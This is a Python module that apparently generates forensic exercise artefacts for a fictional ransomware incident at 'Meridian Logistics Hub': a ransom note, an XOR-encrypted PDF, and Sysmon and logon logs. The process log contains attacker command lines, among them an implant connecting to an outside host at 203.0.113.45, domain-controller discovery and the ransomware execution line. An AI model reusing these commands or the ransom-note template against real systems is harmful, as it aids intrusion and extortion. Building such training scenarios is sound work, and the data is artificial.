"""Phase 4 artefacts: ransomware at Meridian Logistics Hub — the ransom note, an encrypted
document, process creation and logon events from the hosts it crossed."""
from __future__ import annotations

import csv
import hashlib
import io
from datetime import timedelta

from world import CASE, at, iso, person, rng

RW = CASE["ransomware"]
HOSTS = {"MLH-DC01": "10.60.1.10", "MLH-FS01": "10.60.1.20", "MLH-APP02": "10.60.2.12",
         "MLH-WS031": "10.60.4.31", "MLH-WS032": "10.60.4.32", "MLH-WS033": "10.60.4.33"}
B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def pdf(lines: list[str], r, padding: int = 0) -> bytes:
    """A small valid PDF 1.7 with one page of text (uncompressed, so its words can be read)."""
    text = " ".join(f"({line.replace('(', '[').replace(')', ']')}) Tj 0 -22 Td" for line in lines)
    filler = "".join(r.choice("abcdefghijklmnopqrstuvwxyz ") for _ in range(padding))
    stream = f"BT /F1 14 Tf 60 760 Td {text} ET\n% {filler}\n".encode()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
               b"/Contents 4 0 R >>",
               b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"endstream",
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def base58check(payload: bytes) -> str:
    """Bitcoin's Base58Check: payload plus the first four bytes of its double SHA-256."""
    data = payload + hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    number, text = int.from_bytes(data, "big"), ""
    while number:
        number, rest = divmod(number, 58)
        text = B58[rest] + text
    return "1" * (len(data) - len(data.lstrip(b"\0"))) + text


def wallets() -> tuple[str, str]:
    """The real payment address and the note's mistyped one (its checksum fails)."""
    r = rng("wallet")
    real = base58check(b"\0" + bytes(r.randrange(256) for _ in range(20)))
    i = 11
    typo = real[:i] + ("k" if real[i] != "k" else "m") + real[i + 1:]
    return real, typo


def manifest() -> bytes:
    """The consignment manifest on MLH-FS01 before the ransomware encrypted it."""
    r = rng("manifest")
    rows = [f"Container MSKU{r.randint(1000000, 9999999)} berth {r.randint(1, 9)}" for _ in range(12)]
    return pdf(["MERIDIAN LOGISTICS HUB - Q4 consignments", f"Priority consignment: {RW['consignment']}", *rows], r, 900)


def key() -> bytes:
    """KESTREL-LOCK's weak key: 8 bytes, repeated over the whole file."""
    return hashlib.sha256(RW["victim_id"].encode()).digest()[:8]


def encrypted_manifest() -> bytes:
    plain, k = manifest(), key()
    return bytes(b ^ k[i % len(k)] for i, b in enumerate(plain))


def ransom_note() -> bytes:
    real, typo = wallets()
    note = f"""!!! YOUR FILES ARE ENCRYPTED BY {RW['family']} !!!

All documents, databases and backups of Meridian Logistics Hub have the extension {RW['extension']}.
Your victim ID: {RW['victim_id']}

To get the decryptor, pay 4.5 BTC to this address:
    {typo}
If your wallet refuses it, our backup address is:
    {real}

Then write to our negotiator on Tox with your victim ID:
    {person('operator')['tox']}

Do not rename files. Do not call the police. You have 72 hours.
"""
    return note.replace("\n", "\r\n").encode()


def process_log() -> bytes:
    """Sysmon event 1 (process creation) from the three hosts the intruder used, as CSV."""
    r = rng("process_log")
    start = at("meridian_first_logon")
    rows = []
    for host in HOSTS:
        for _ in range(12):
            moment = start - timedelta(hours=2) + timedelta(minutes=r.randint(0, 300))
            rows.append((moment, host, "svchost.exe", r"C:\Windows\System32\services.exe",
                         r"C:\Windows\System32\svchost.exe -k netsvcs", "NT AUTHORITY\\SYSTEM",
                         r"C:\Windows\System32\svchost.exe"))
    a, b, fs = RW["path"]
    account = f"MERIDIAN\\{RW['account']}"
    steps = [(0, a, r"C:\Users\a.nurlanova\AppData\Local\Temp\upd.exe", r"C:\Windows\explorer.exe",
              "upd.exe -connect 203.0.113.45:8443", "MERIDIAN\\a.nurlanova"),
             (47, a, r"C:\Windows\System32\cmd.exe", r"C:\Users\a.nurlanova\AppData\Local\Temp\upd.exe",
              "cmd.exe /c nltest /dclist:meridian", "MERIDIAN\\a.nurlanova"),
             (3900, b, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"C:\Windows\System32\wsmprovhost.exe",
              "powershell.exe -nop -c Get-SmbShare", account),
             (int((at("encryption_start") - start).total_seconds()), fs, r"C:\ProgramData\kstl\kstl.exe", rf"C:\Windows\System32\wbem\{RW['parent']}",
              f"kstl.exe --ext {RW['extension']} --note RESTORE-MY-FILES.txt", account)]
    for seconds, host, image, parent, cmd, user in steps:
        rows.append((start + timedelta(seconds=seconds), host, image.split("\\")[-1], parent, cmd, user, image))
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["time_utc", "host", "image", "parent_image", "command_line", "user"])
    for row in sorted(rows, key=lambda row: (row[0], row[1])):
        writer.writerow([iso(row[0]), row[1], row[6], row[3], row[4], row[5]])
    return out.getvalue().encode()


def logon_log() -> bytes:
    """Windows 4624/4625 logon events from the domain's hosts, as CSV (UTC)."""
    r = rng("logon_log")
    start = at("meridian_first_logon")
    rows = []
    users = ["a.nurlanova", "k.sadykov", "m.iskakova", "svc_print"]
    for _ in range(160):
        src = r.choice(["MLH-WS031", "MLH-WS032", "MLH-WS033"])
        moment = start - timedelta(hours=3) + timedelta(seconds=r.randint(0, 6 * 3600))
        rows.append((moment, 4624, "MLH-DC01", r.choice(users), 3, HOSTS[src]))
    a, b, fs = RW["path"]
    rows.append((start, 4624, a, "a.nurlanova", 2, "-"))
    for i in range(5):
        rows.append((start + timedelta(seconds=3300 + i * 20), 4625, b, RW["account"], 3, HOSTS[a]))
    rows.append((start + timedelta(seconds=3420), 4624, b, RW["account"], 3, HOSTS[a]))
    rows.append((start + timedelta(seconds=3890), 4624, b, RW["account"], 10, HOSTS[a]))
    rows.append((start + timedelta(seconds=9600), 4624, fs, RW["account"], 3, HOSTS[b]))
    rows.append((start + timedelta(seconds=9640), 4624, fs, RW["account"], 3, HOSTS[b]))
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["time_utc", "event_id", "host", "account", "logon_type", "source_ip"])
    for row in sorted(rows, key=lambda row: (row[0], row[2])):
        writer.writerow([iso(row[0]), *row[1:]])
    return out.getvalue().encode()


def assets() -> bytes:
    """Meridian's asset list, as its IT department handed it over."""
    roles = {"MLH-DC01": "domain controller", "MLH-FS01": "file server (consignments, finance)",
             "MLH-APP02": "dispatch application server", "MLH-WS031": "dispatcher workstation (A. Nurlanova)",
             "MLH-WS032": "dispatcher workstation", "MLH-WS033": "dispatcher workstation"}
    rows = ["hostname,ip,role"] + [f"{host},{ip},{roles[host]}" for host, ip in sorted(HOSTS.items())]
    return ("\n".join(rows) + "\n").encode()
